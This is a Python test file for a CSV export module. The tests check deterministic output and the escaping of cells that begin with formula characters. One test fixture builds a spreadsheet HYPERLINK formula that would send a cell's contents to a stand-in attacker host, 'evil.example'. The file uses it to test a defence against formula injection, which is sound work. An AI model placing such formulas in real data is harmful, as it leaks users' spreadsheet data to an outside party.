"""Tests for jags.csv_output: deterministic CSV that is never a formula."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta, timezone
from enum import StrEnum

import pytest

from jags.csv_output import FORMULA_PREFIXES, csv_bytes, safe_text


def test_csv_bytes_is_deterministic() -> None:
    rows: list[list[object]] = [
        ["R-1", None, True, date(2026, 4, 3), 3],
        [
            "R-2",
            'say "hi", then\nleave',
            False,
            datetime(2026, 7, 1, 14, 5, tzinfo=timezone(timedelta(hours=1))),
            2.5,
        ],
    ]
    data = csv_bytes(["request_id", "note", "eligible", "on", "score"], rows)
    assert data == (
        b"request_id,note,eligible,on,score\n"
        b"R-1,,true,2026-04-03,3\n"
        b'R-2,"say ""hi"", then\nleave",false,2026-07-01T14:05:00+01:00,2.5\n'
    )
    assert csv_bytes(["request_id", "note", "eligible", "on", "score"], iter(rows)) == data
    assert csv_bytes(["naïve"], [["café"]]) == "naïve\ncafé\n".encode()


class Colour(StrEnum):
    ODD = "=odd"


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_text_starting_with_a_formula_character_is_written_as_text(prefix: str) -> None:
    hostile = f'{prefix}HYPERLINK("http://evil.example/?leak="&B2,"Click")'
    data = csv_bytes(
        ["id", "text", "number", "day", "flag"],
        [[f"{prefix}R1", hostile, -3, date(2026, 1, 2), False], [Colour.ODD, "", -2.5, None, True]],
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    lf = prefix.replace("\r", "\n")  # a carriage return is written as a line feed
    assert rows[1] == [f"'{lf}R1", f"'{lf}{hostile[1:]}", "-3", "2026-01-02", "false"]
    assert rows[2] == ["'=odd", "", "-2.5", "", "true"]  # numbers stay numbers
    assert not any(
        cell.startswith(FORMULA_PREFIXES)
        for row in rows
        for cell in row
        if not cell.lstrip("-").replace(".", "").isdigit()
    )


def test_line_breaks_never_split_a_row() -> None:
    data = csv_bytes(["a", "b"], [["one\rtwo\r\nthree", "x"]])
    assert list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""))) == [
        ["a", "b"],
        ["one\ntwo\nthree", "x"],
    ]


def test_safe_text_leaves_ordinary_text_alone() -> None:
    assert [safe_text(t) for t in ("R-0001", "Allocated to F001", "", "'quoted", "a=b")] == [
        "R-0001",
        "Allocated to F001",
        "",
        "'quoted",
        "a=b",
    ]
    assert safe_text("-1") == "'-1"  # text that looks like a number is still text
